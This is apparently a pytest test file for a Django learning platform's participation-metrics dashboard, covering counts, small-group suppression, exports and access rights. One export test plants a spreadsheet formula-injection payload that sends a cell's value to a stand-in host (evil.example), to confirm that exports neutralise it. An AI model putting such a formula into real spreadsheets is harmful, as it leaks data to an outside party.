"""Every figure is compared with a count made here from known records."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from accounts.factories import UserFactory
from courses.factories import build_course
from courses.models import Enrolment, LessonCompletion
from courses.roles import COURSE_MANAGERS, TRAINERS
from lms.spreadsheets import Percentage
from metrics.factories import analyst, at, enrol, learner
from metrics.summary.breakdowns import breakdown
from metrics.summary.course_report import course_funnel
from metrics.summary.filters import Filters
from metrics.summary.participation import headline, monthly_series

pytestmark = pytest.mark.django_db

START, END = datetime.date(2026, 1, 1), datetime.date(2026, 6, 30)


@pytest.fixture
def scenario(catalogue):
    """Known records: who joined, enrolled, completed and was certified when."""
    course_a, lessons_a = build_course(parent=catalogue, title="Pricing")
    course_b, _ = build_course(parent=catalogue, title="Funding")
    designers = [
        learner(
            datetime.date(2026, 2, 1),
            sector="design",
            city="ljubljana",
            organisation=f"Studio {n % 4}",
        )
        for n in range(8)
    ]
    musicians = [
        learner(datetime.date(2026, 3, 1), sector="music", city="pecs")
        for _ in range(3)
    ]
    veterans = [
        learner(datetime.date(2025, 5, 1), sector="design", city="gdansk")
        for _ in range(6)
    ]
    UserFactory(is_staff=True)  # staff are not learners
    for n, user in enumerate(designers):  # 8 enrolments in Pricing, 6 completed
        done = datetime.date(2026, 4, 10) if n < 6 else None
        enrol(
            user,
            course_a,
            datetime.date(2026, 3, 1),
            done,
            certificate=("issued" if n < 5 else "revoked") if done else None,
        )
    for user in musicians:  # 3 in Funding, one withdrew
        enrol(
            user,
            course_b,
            datetime.date(2026, 3, 5),
            status="withdrawn" if user == musicians[0] else "active",
        )
    for user in veterans:  # enrolled last year, 5 completed in the period
        enrol(
            user,
            course_a,
            datetime.date(2025, 9, 1),
            datetime.date(2026, 2, 1) if user != veterans[0] else None,
        )
    erased = enrol(None, course_a, datetime.date(2026, 3, 2))  # account deleted
    LessonCompletion.objects.create(
        enrolment=Enrolment.objects.get(user=veterans[0]), lesson=lessons_a[0]
    )
    LessonCompletion.objects.filter(enrolment__user=veterans[0]).update(
        completed_at=at(datetime.date(2026, 5, 5))
    )
    return {"a": course_a, "b": course_b, "designers": designers, "erased": erased}


def figures(**filters) -> dict:
    result = headline(Filters(start=START, end=END, **filters))
    return {figure["key"]: figure["value"] for figure in result}


def test_headline_figures(scenario):
    values = figures()
    assert values["registered"] == 8 + 3 + 6  # joined before the end, staff excluded
    assert values["signups"] == 8 + 3
    # enrolled/completed/withdrew in the period (designers 8, musicians 3, veterans'
    # completions 5, veteran with a lesson done 1)
    assert values["active"] == 8 + 3 + 1
    assert values["enrolments"] == 8 + 3 + 1  # the erased learner's enrolment counts
    assert values["withdrawn"] == "<5"  # one person
    assert values["completions"] == 6 + 5
    assert values["completion_rate"] == Percentage(6 / 12)  # a number in files
    assert str(values["completion_rate"]) == "50 %"
    assert values["certificates"] == 5  # the revoked one is not counted
    assert str(values["median_days"]) == "40.0"  # median of 6×40 and 5×153 days
    assert values["organisations"] == "<5"  # four studios
    assert values["assessments"] == 0


def test_filters_combine(scenario):
    designers_in_ljubljana = figures(sector="design", city="ljubljana")
    assert designers_in_ljubljana["enrolments"] == 8
    assert designers_in_ljubljana["completions"] == 6
    assert designers_in_ljubljana["signups"] == 8
    funding = figures(course=scenario["b"])
    assert funding["enrolments"] == "<5"
    assert funding["completions"] == 0
    nobody = figures(course=scenario["b"], sector="design")
    assert nobody["enrolments"] == 0


def test_a_period_with_no_data():
    values = headline(
        Filters(start=datetime.date(2020, 1, 1), end=datetime.date(2020, 1, 31))
    )
    shown = {figure["key"]: figure["value"] for figure in values}
    assert shown["enrolments"] == 0 and shown["completion_rate"] == "–"
    assert shown["median_days"] == "–"


def test_breakdowns_suppress_small_groups(scenario):
    filters = Filters(start=START, end=END)
    by_sector = {row["group"]: row for row in breakdown(filters, "sector")["rows"]}
    assert by_sector["Design"]["enrolments"] == 8
    assert by_sector["Design"]["completions"] == 6 + 5
    assert by_sector["Design"]["certificates"] == 5
    assert by_sector["Music"]["enrolments"] == "<5"
    assert by_sector["unknown"]["enrolments"] == "<5"  # the erased learner
    by_city = {row["group"]: row for row in breakdown(filters, "city")["rows"]}
    assert by_city["Gdańsk"]["completions"] == 5
    assert by_city["Gdańsk"]["enrolments"] == 0
    by_course = {row["group"]: row for row in breakdown(filters, "course")["rows"]}
    # The erased learner is a ninth person in Pricing: everyone has one
    # enrolment per course, so a course's enrolments are its people.
    assert by_course["Pricing"]["learners"] == 8 + 1


def test_monthly_series(scenario):
    rows = monthly_series(Filters(start=START, end=END))["rows"]
    by_month = {row["month"].month: row for row in rows}
    assert [row["month"].month for row in rows] == [1, 2, 3, 4, 5, 6]
    assert by_month[2]["signups"] == 8 and by_month[3]["signups"] == "<5"
    assert by_month[3]["enrolments"] == 8 + 3 + 1
    assert by_month[4]["completions"] == 6 and by_month[2]["completions"] == 5
    assert by_month[5]["active"] == "<5"
    assert by_month[6]["enrolments"] == 0


def test_course_report_funnel_and_drop_off(scenario):
    report = course_funnel(scenario["a"], Filters(start=START, end=END))
    funnel = {str(step["step"]): step["people"] for step in report["funnel"]}
    assert funnel["Enrolled"] == 9
    assert funnel["Completed"] == 6
    assert funnel["Certificate issued"] == 5
    assert len(report["lessons"]) == 4


def test_exports_carry_the_filters_and_period(client, scenario):
    client.force_login(analyst())
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    url = reverse("metrics_dashboard")
    params = {"start": "2026-01-01", "end": "2026-06-30", "sector": "design"}
    response = client.get(url, {**params, "export": "csv", "table": "headline"})
    assert response["Content-Disposition"].endswith(
        'participation-headline-2026-01-01_2026-06-30.csv"'
    )
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with the mark
    rows = dict(list(csv.reader(io.StringIO(text[1:])))[1:])
    assert rows["Enrolments"] == "8"
    response = client.get(url, {**params, "export": "xlsx", "table": "by_city"})
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["By city"]
    values = [[cell.value for cell in row] for row in workbook.active.iter_rows()]
    assert values[0][0] == "City"
    assert ["Gdańsk", 0, 0, 5, 0] in values


def xlsx_cells(response) -> dict[str, list]:
    """The first sheet's rows as {first cell: the cells after it}."""
    workbook = load_workbook(io.BytesIO(response.content))
    return {row[0].value: list(row[1:]) for row in workbook.active.iter_rows()}


def test_exports_hold_numbers_dates_and_no_formulas(client, scenario):
    scenario["a"].title = '=HYPERLINK("http://evil.example/?"&B3,"Pricing")'
    scenario["a"].save_revision().publish()
    client.force_login(analyst())
    url = reverse("metrics_dashboard")
    params = {"start": "2026-01-01", "end": "2026-06-30"}
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"

    by_course = client.get(url, {**params, "export": "xlsx", "table": "by_course"})
    (title,) = [
        row[0]
        for row in load_workbook(io.BytesIO(by_course.content)).active.iter_rows()
        if "HYPERLINK" in str(row[0].value)
    ]
    assert title.data_type == "s"  # text, not a formula
    assert title.value == "'" + scenario["a"].title

    headline = xlsx_cells(
        client.get(url, {**params, "export": "xlsx", "table": "headline"})
    )
    rate = headline["Completion rate of enrolments in the period"][0]
    assert rate.value == 0.5 and rate.number_format == "0%"
    median = headline["Median days to complete"][0]
    assert median.value == 40.0 and median.data_type == "n"
    assert headline["Enrolments"][0].value == 12

    monthly = load_workbook(
        io.BytesIO(
            client.get(url, {**params, "export": "xlsx", "table": "monthly"}).content
        )
    )
    assert monthly.sheetnames == ["Per month"]
    march = monthly.active["A4"]
    assert march.is_date and march.value == datetime.datetime(2026, 3, 1)

    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "sl"
    response = client.get(url, {**params, "export": "csv", "table": "headline"})
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = dict(list(csv.reader(io.StringIO(text[1:]), delimiter=";"))[1:])
    assert rows["Mediana dni do zaključka"] == "40,0"  # decimal comma
    assert rows["Vpisi"] == "12"
    by_course_csv = client.get(url, {**params, "export": "csv", "table": "by_course"})
    text = b"".join(by_course_csv.streaming_content).decode("utf-8")
    names = [row[0] for row in csv.reader(io.StringIO(text[1:]), delimiter=";")]
    assert "'" + scenario["a"].title in names


def test_only_analysts_and_superusers_see_participation(client, scenario):
    url = reverse("metrics_dashboard")
    assert client.get(url).status_code == 302  # anonymous: to the log-in
    for user in (UserFactory(), UserFactory(is_staff=True)):
        client.force_login(user)
        response = client.get(url)
        assert response.status_code in (302, 403)
    trainer = UserFactory(is_staff=True)
    trainer.groups.add(Group.objects.get(name=TRAINERS))
    client.force_login(trainer)
    assert client.get(url).status_code in (302, 403)
    manager = UserFactory(is_staff=True)
    manager.groups.add(Group.objects.get(name=COURSE_MANAGERS))
    client.force_login(manager)
    assert client.get(url).status_code in (302, 403)

    client.force_login(analyst())
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    page = client.get(url).content.decode()
    assert "Headline figures" in page and "&lt;5" in page
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    assert client.get(url).status_code == 200


def test_analysts_cannot_change_anything(client, scenario):
    user = analyst()
    home = scenario["a"].get_parent().get_parent()
    assert not home.permissions_for_user(user).can_edit()
    assert not scenario["a"].permissions_for_user(user).can_edit()
    client.force_login(user)
    edit = reverse("wagtailadmin_pages:edit", args=[scenario["a"].pk])
    assert client.get(edit).status_code in (302, 403)
    assert client.get(reverse("wagtailusers_users:index")).status_code in (302, 403)


def test_bad_filters_show_a_message_and_fall_back(client, scenario):
    client.force_login(analyst())
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    response = client.get(
        reverse("metrics_dashboard"), {"start": "2026-06-30", "end": "2026-01-01"}
    )
    assert response.status_code == 200
    assert "The period must end after it starts." in response.content.decode()
    response = client.get(reverse("metrics_dashboard"), {"start": "yesterday"})
    assert response.status_code == 200
